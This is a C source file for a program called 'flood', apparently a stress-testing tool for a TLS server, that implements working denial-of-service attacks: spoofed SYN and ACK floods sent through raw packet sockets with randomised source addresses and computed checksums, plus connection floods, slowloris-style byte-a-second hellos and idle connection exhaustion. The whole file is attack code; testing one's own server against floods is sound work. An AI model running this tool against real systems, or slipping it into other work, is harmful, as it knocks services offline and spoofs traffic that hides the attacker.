// SPDX-License-Identifier: Apache-2.0
/*
 * flood KIND[:NUMBER] ADDRESS:PORT HEAD-FILE SECONDS SOURCES [DEVICE MAC] - one attacker, as fast as one process can.
 *
 * KIND syn      SYNs, spoofed
 *      ack      the first bytes of a hello on connections that there are not, spoofed
 *      hello    connections, each closed behind a whole hello; who gets no answer at once is given up for the next
 *      slow     SLOW_CONNECTIONS at once, each of which sends a byte of its hello a second
 *      silent   as many, none of which says anything
 *
 * NUMBER is how many packets a second at most, or how many connections at once. SOURCES is an IPv4 prefix, all of whose addresses are used; for hello and slow they are this namespace's own. DEVICE is
 * where spoofed packets leave, MAC whom they are for.
 *
 * Prints "flooding" once it is under way, and at its end, which is SIGTERM or SECONDS, what it sent as a line of JSON.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "stream.h"

#define SECOND_NS 1000000000U
#define MS_NS 1000000U
#define UNDER_WAY_NS (700 * MS_NS)	/* bursts of budgets are spent by then, and queues are full */
#define BATCH 64			/* frames a system call */
#define TURNS_S 100			/* system calls a second at least, when frames are sent at a pace */
#define ACK_PAYLOAD 64
#define OPTIONS_LEN 20			/* those of a Linux client's SYN */
#define PORT_MIN 1024
#define SLOTS_MAX 4096
#define HELLO_CONNECTIONS 1024
#define HELLO_PATIENCE_NS (20 * MS_NS)
#define SLOW_CONNECTIONS 4000
#define SLOW_PATIENCE_NS SECOND_NS
#define SLOW_TURN_NS (5 * MS_NS)

/* RFC 9293, section 3.1, behind RFC 791's without options and Ethernet's; @more is options or payload. */
struct frame {
	struct ether_header ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t more[ACK_PAYLOAD];
} __attribute__((packed));

struct slot {
	int fd;
	uint32_t sent;
	uint64_t begun_ns, due_ns;
};

static const uint8_t syn_options[OPTIONS_LEN] = {
	2, 4, 0x05, 0xb4,			/* MSS 1460 */
	4, 2,					/* SACK permitted */
	8, 10, 0, 0, 0, 1, 0, 0, 0, 0,		/* timestamps */
	1, 3, 3, 7,				/* window scale */
};

static struct sockaddr_in to;
static uint32_t first_source, source_count;	/* host's order */
static uint8_t head[STREAM_HEAD_MAX];
static size_t head_len;
static uint32_t number;				/* 0: the most there is */
static uint64_t packets, hellos, connections;
static volatile sig_atomic_t stopped;

__attribute__((noreturn, format(printf, 1, 2))) static void fail(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	fprintf(stderr, "flood: ");
	vfprintf(stderr, format, args);
	fprintf(stderr, "\n");
	va_end(args);
	exit(1);
}

static void stop(int signal)
{
	(void)signal;
	stopped = 1;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * SECOND_NS + (uint64_t)now.tv_nsec;
}

static uint64_t draw(void)
{
	static uint64_t state = 88172645463325252U;

	state ^= state << 13;			/* xorshift */
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

/* Spoofed packets. */

static uint32_t sum(uint32_t so_far, const void *bytes, size_t len)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i < len; i += 2)
		so_far += (uint32_t)at[i] << 8 | (i + 1 < len ? at[i + 1] : 0);
	return so_far;
}

static uint16_t fold(uint32_t total)
{
	total = (total & 0xffff) + (total >> 16);
	return htons((uint16_t)~(total + (total >> 16)));
}

/* All but what differs from one to the next. Return: its length. */
static size_t frame_make(struct frame *frame, bool is_syn, const uint8_t *own_mac, const uint8_t *mac)
{
	size_t more = is_syn ? OPTIONS_LEN : ACK_PAYLOAD;

	*frame = (struct frame){
		.ethernet.ether_type = htons(ETHERTYPE_IP),
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .frag_off = htons(IP_DF),
			.tot_len = htons((uint16_t)(sizeof(frame->ip) + sizeof(frame->tcp) + more)),
			.daddr = to.sin_addr.s_addr },
		.tcp = { .dest = to.sin_port, .doff = (uint16_t)((sizeof(frame->tcp) + (is_syn ? more : 0)) / 4),
			 .syn = is_syn, .ack = !is_syn, .psh = !is_syn, .window = htons(64240) },
	};
	memcpy(frame->ethernet.ether_dhost, mac, ETH_ALEN);
	memcpy(frame->ethernet.ether_shost, own_mac, ETH_ALEN);
	memcpy(frame->more, is_syn ? syn_options : head, more);
	return sizeof(*frame) - sizeof(frame->more) + more;
}

static void frame_vary(struct frame *frame, uint32_t ip_sum, uint32_t tcp_sum)
{
	uint64_t random = draw();
	uint32_t source = htonl(first_source + (uint32_t)(random >> 32) % source_count);
	uint16_t port = htons((uint16_t)(PORT_MIN + random % (65536 - PORT_MIN)));

	frame->ip.saddr = source;
	frame->ip.check = fold(sum(ip_sum, &source, sizeof(source)));
	frame->tcp.source = port;
	frame->tcp.seq = (uint32_t)random;
	frame->tcp.ack_seq = frame->tcp.syn ? 0 : (uint32_t)(random >> 16);
	tcp_sum = sum(tcp_sum, &source, sizeof(source));
	frame->tcp.check = fold(sum(tcp_sum, &frame->tcp, 3 * sizeof(uint32_t)) - ntohs(frame->tcp.dest));
}

static int open_device(const char *name, uint8_t *ret_mac)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), on = 1;		/* 0: to send only */
	struct sockaddr_ll device = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name) };
	socklen_t len = sizeof(device);

	if (fd < 0 || !device.sll_ifindex || bind(fd, (struct sockaddr *)&device, sizeof(device)) ||
	    getsockname(fd, (struct sockaddr *)&device, &len) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)))
		fail("%s: %s", name, strerror(errno));
	memcpy(ret_mac, device.sll_addr, ETH_ALEN);
	return fd;
}

static void announce(uint64_t *since_ns)
{
	if (!*since_ns || now_ns() < *since_ns + UNDER_WAY_NS)
		return;
	*since_ns = 0;
	printf("flooding\n");
	fflush(stdout);
}

/* Waits until so many packets are due. */
static void pace(uint64_t begun_ns)
{
	uint64_t due_ns = begun_ns + packets * SECOND_NS / number, now = now_ns();
	struct timespec pause = { 0 };

	if (due_ns <= now)
		return;
	pause.tv_sec = (time_t)((due_ns - now) / SECOND_NS);
	pause.tv_nsec = (long)((due_ns - now) % SECOND_NS);
	nanosleep(&pause, NULL);
}

static void flood_frames(bool is_syn, const char *device, const uint8_t *mac, uint64_t end_ns)
{
	static struct frame frames[BATCH];
	static struct mmsghdr messages[BATCH];
	static struct iovec vectors[BATCH];
	uint64_t begun_ns = now_ns(), since_ns = begun_ns;
	uint32_t batch = number && number / TURNS_S < BATCH ? number / TURNS_S + 1 : BATCH;
	uint32_t ip_sum, tcp_sum;
	uint8_t own_mac[ETH_ALEN];
	int fd = open_device(device, own_mac), sent;
	size_t tcp_len;

	for (uint32_t i = 0; i < BATCH; i++) {
		vectors[i] = (struct iovec){ .iov_base = &frames[i] };
		vectors[i].iov_len = frame_make(&frames[i], is_syn, own_mac, mac);
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &vectors[i], .msg_iovlen = 1 };
	}
	tcp_len = vectors[0].iov_len - sizeof(frames->ethernet) - sizeof(frames->ip);
	ip_sum = sum(0, &frames->ip, sizeof(frames->ip));
	tcp_sum = sum(IPPROTO_TCP + (uint32_t)tcp_len, &to.sin_addr, sizeof(to.sin_addr));
	tcp_sum = sum(tcp_sum, &frames->tcp, tcp_len);
	while (!stopped && now_ns() < end_ns) {
		for (uint32_t i = 0; i < batch; i++)
			frame_vary(&frames[i], ip_sum, tcp_sum);
		sent = sendmmsg(fd, messages, batch, 0);
		if (sent < 0 && errno != ENOBUFS && errno != EINTR)
			fail("%s: %s", device, strerror(errno));
		packets += sent > 0 ? (uint64_t)sent : 0;
		announce(&since_ns);
		if (number)
			pace(begun_ns);
	}
}

/* Connections of one's own. */

static void begin(struct slot *slot)
{
	static uint32_t next;
	struct sockaddr_in from = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(first_source + next++ % source_count) };
	const int on = 1;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (slot->fd >= 0)
		close(slot->fd);
	*slot = (struct slot){ .fd = fd, .begun_ns = now_ns() };
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on)) ||
	    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on)) ||
	    bind(fd, (struct sockaddr *)&from, sizeof(from)))
		fail("a socket of one's own: %s", strerror(errno));
	/* Without a port left, and for any other reason, the next turn finds it not connected. */
	if (!connect(fd, (struct sockaddr *)&to, sizeof(to)) || errno == EINPROGRESS)
		connections++;
}

static void turn_hello(struct slot *slot)
{
	ssize_t sent = send(slot->fd, head, head_len, MSG_NOSIGNAL);

	if (sent < 0 && errno == EAGAIN && now_ns() < slot->begun_ns + HELLO_PATIENCE_NS)
		return;
	hellos += sent > 0;
	begin(slot);
}

static void turn_slow(struct slot *slot)
{
	uint64_t now = now_ns();
	ssize_t sent;

	if (now < slot->due_ns)
		return;
	sent = send(slot->fd, head + slot->sent, 1, MSG_NOSIGNAL);
	if (sent == 1) {
		hellos += !slot->sent;
		slot->sent++;
		slot->due_ns = now + SECOND_NS;
	} else if (errno != EAGAIN || now > slot->begun_ns + SLOW_PATIENCE_NS) {
		begin(slot);
	}
}

/* Ended by the other side, or never begun: another one. */
static void turn_silent(struct slot *slot)
{
	char byte;

	if (recv(slot->fd, &byte, 1, MSG_DONTWAIT) >= 0 || errno != EAGAIN)
		begin(slot);
}

static void flood_connections(void (*turn)(struct slot *slot), uint64_t end_ns)
{
	static struct slot slots[SLOTS_MAX];
	bool is_hello = turn == turn_hello;
	uint32_t count = number ? number : is_hello ? HELLO_CONNECTIONS : SLOW_CONNECTIONS;
	uint64_t since_ns = now_ns();
	const struct timespec pause = { .tv_nsec = SLOW_TURN_NS };

	for (uint32_t i = 0; i < count; i++) {
		slots[i].fd = -1;
		begin(&slots[i]);
	}
	while (!stopped && now_ns() < end_ns) {
		for (uint32_t i = 0; i < count && !stopped; i++)
			turn(&slots[i]);
		announce(&since_ns);
		if (!is_hello)
			nanosleep(&pause, NULL);
	}
}

static void read_head(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t got = fd < 0 ? -1 : read(fd, head, sizeof(head));

	if (got < ACK_PAYLOAD || stream_head_len(head, (size_t)got) != (size_t)got)
		fail("%s: not one TLS record of at most %u bytes", path, STREAM_HEAD_MAX);
	close(fd);
	head_len = (size_t)got;
}

/* Return: 0, or -EINVAL. */
static int parse_target(char *text)
{
	char *colon = strchr(text, ':');

	if (!colon)
		return -EINVAL;
	*colon = '\0';
	to.sin_family = AF_INET;
	to.sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, text, &to.sin_addr) == 1 ? 0 : -EINVAL;
}

static int parse_sources(char *text)
{
	char *slash = strchr(text, '/');
	int bits = slash ? atoi(slash + 1) : 0;
	struct in_addr address;

	if (bits < 8 || bits > 32)
		return -EINVAL;
	*slash = '\0';
	if (inet_pton(AF_INET, text, &address) != 1)
		return -EINVAL;
	first_source = ntohl(address.s_addr);
	source_count = 1U << (32 - bits);
	return 0;
}

static int parse_mac(const char *text, uint8_t *ret_mac)
{
	return sscanf(text, "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx", &ret_mac[0], &ret_mac[1], &ret_mac[2], &ret_mac[3],
		      &ret_mac[4], &ret_mac[5]) == ETH_ALEN ? 0 : -EINVAL;
}

static const struct kind {
	const char *word;
	void (*turn)(struct slot *slot);	/* NULL: spoofed frames */
	uint32_t most;
} kinds[] = {
	{ "syn", NULL, UINT32_MAX },
	{ "ack", NULL, UINT32_MAX },
	{ "hello", turn_hello, SLOTS_MAX },
	{ "slow", turn_slow, SLOTS_MAX },
	{ "silent", turn_silent, SLOTS_MAX },
};

/* KIND[:NUMBER]. Return: NULL for what is none. */
static const struct kind *parse_kind(const char *text)
{
	size_t len = strcspn(text, ":");

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (strlen(kinds[i].word) != len || strncmp(kinds[i].word, text, len))
			continue;
		number = text[len] ? (uint32_t)strtoul(text + len + 1, NULL, 10) : 0;
		return (text[len] && !number) || number > kinds[i].most ? NULL : &kinds[i];
	}
	return NULL;
}

int main(int argc, char **argv)
{
	const struct kind *kind = argc > 1 ? parse_kind(argv[1]) : NULL;
	uint64_t begun_ns = now_ns(), end_ns;
	struct rlimit descriptors;
	uint8_t mac[ETH_ALEN];

	if (!kind || argc != (kind->turn ? 6 : 8) || parse_target(argv[2]) || atof(argv[4]) <= 0 ||
	    parse_sources(argv[5]) || (argc == 8 && parse_mac(argv[7], mac))) {
		fprintf(stderr, "usage: flood syn|ack|hello|slow|silent[:NUMBER] ADDRESS:PORT HEAD-FILE SECONDS SOURCES "
			"[DEVICE MAC]\n");
		return 2;
	}
	read_head(argv[3]);
	end_ns = begun_ns + (uint64_t)(atof(argv[4]) * SECOND_NS);
	signal(SIGTERM, stop);
	if (getrlimit(RLIMIT_NOFILE, &descriptors))
		fail("RLIMIT_NOFILE: %s", strerror(errno));
	descriptors.rlim_cur = descriptors.rlim_max;
	if (setrlimit(RLIMIT_NOFILE, &descriptors))
		fail("RLIMIT_NOFILE: %s", strerror(errno));
	if (kind->turn)
		flood_connections(kind->turn, end_ns);
	else
		flood_frames(!strcmp(kind->word, "syn"), argv[6], mac, end_ns);
	printf("{\"seconds\": %.6f, \"packets\": %llu, \"connections\": %llu, \"hellos\": %llu}\n",
	       (double)(now_ns() - begun_ns) / SECOND_NS, (unsigned long long)packets, (unsigned long long)connections,
	       (unsigned long long)hellos);
	return 0;
}
